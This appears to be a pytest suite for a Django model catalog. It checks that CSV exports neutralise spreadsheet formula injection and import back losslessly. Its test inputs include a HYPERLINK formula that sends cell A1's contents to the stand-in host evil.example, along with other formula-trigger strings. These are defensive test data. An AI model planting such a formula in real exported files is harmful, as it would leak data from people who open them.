"""Every CSV the site writes is safe to open in a spreadsheet, and imports back exactly (item 4).

A cell beginning with =, +, -, @, tab or CR is prefixed with a single quote (the OWASP rule);
so is one beginning with a quote, so that the importer can undo exactly the prefix it added.
"""

import csv
import io
import json

import pytest
from django.core.management import call_command
from django.urls import reverse

from config.lib.csvcells import escape_cell, unescape_cell
from models_catalog.models import AIModel
from models_catalog.transfer import exporter
from models_catalog.transfer.importer import import_file
from tests.factories import AIModelFactory

pytestmark = pytest.mark.django_db

TRIGGERS = ("=", "+", "-", "@", "\t", "\r")
HOSTILE = [
    '=HYPERLINK("http://evil.example/?"&A1,"Click")',
    "=1+2",
    "+1 context",
    "-1",
    "-2+3=1",
    "@SUM(A1:A9)",
    "'quoted already",
    "'=looks escaped",
    "''",
    "=",
]


@pytest.mark.parametrize(
    "value", [*HOSTILE, "\tTab", "\rCR", "plain", "", "a=b", "1e5", "'"], ids=repr
)
def test_escaping_is_safe_and_exactly_reversible(value):
    cell = escape_cell(value)
    assert not cell.startswith(TRIGGERS)
    assert unescape_cell(cell) == value
    if not value.startswith((*TRIGGERS, "'")):
        assert cell == value  # ordinary cells are left alone


def hostile_catalog():
    """One entry per hostile value, in every text column a spreadsheet user would see."""
    rows = []
    for number, value in enumerate(HOSTILE):
        rows.append(
            {
                "name": f"{value} {number}" if value.startswith("=") else value or "x",
                "slug": f"hostile-{number}",
                "organization": f"{value} Lab",
                "family": value,
                "license": f"{value} licence",
                "summary": value,
                "description": value,
                "parameters": "8B",
                "context_window": "128000",
                "price_input_per_mtok": "0.15",
                "tags": f"{value};plain",
                "openness": {"license": {"grade": "open", "notes": value}},
            }
        )
    return rows


def cells(text):
    return [cell for row in csv.reader(io.StringIO(text)) for cell in row]


def load_hostile_catalog(tmp_path):
    path = tmp_path / "hostile.json"
    path.write_text(json.dumps(hostile_catalog()), encoding="utf-8")
    import_file(path)
    return exporter.render(AIModel.objects.all(), "json")


def test_the_view_and_the_command_write_no_live_formula(client, tmp_path):
    load_hostile_catalog(tmp_path)
    response = client.get(reverse("catalog:export-csv"))
    out = tmp_path / "export.csv"
    call_command("export_models", str(out))
    for text in (response.content.decode(), out.read_text(encoding="utf-8")):
        values = cells(text)
        assert not [cell for cell in values if cell.startswith(TRIGGERS)]
        assert "'=1+2 1" in values and "'-1;plain" in values and "'@SUM(A1:A9) Lab" in values
        # Numbers stay numbers: never negative, so never prefixed.
        assert "8B" in values and "128000" in values and "0.15" in values


def test_importing_the_exported_csv_gives_back_every_value(client, tmp_path):
    before = load_hostile_catalog(tmp_path)
    path = tmp_path / "export.csv"
    path.write_bytes(client.get(reverse("catalog:export-csv")).content)
    AIModel.objects.all().delete()
    import_file(path)
    assert exporter.render(AIModel.objects.all(), "json") == before


def test_values_stored_with_a_leading_tab_or_cr_are_escaped(client):
    """Imports and forms strip them; a row written some other way is still protected."""
    model = AIModelFactory(slug="raw", tags=["llm"])
    AIModel.objects.filter(pk=model.pk).update(family="\t=cmd", summary="\r=cmd")
    values = cells(client.get(reverse("catalog:export-csv")).content.decode())
    assert "'\t=cmd" in values and "'\r=cmd" in values
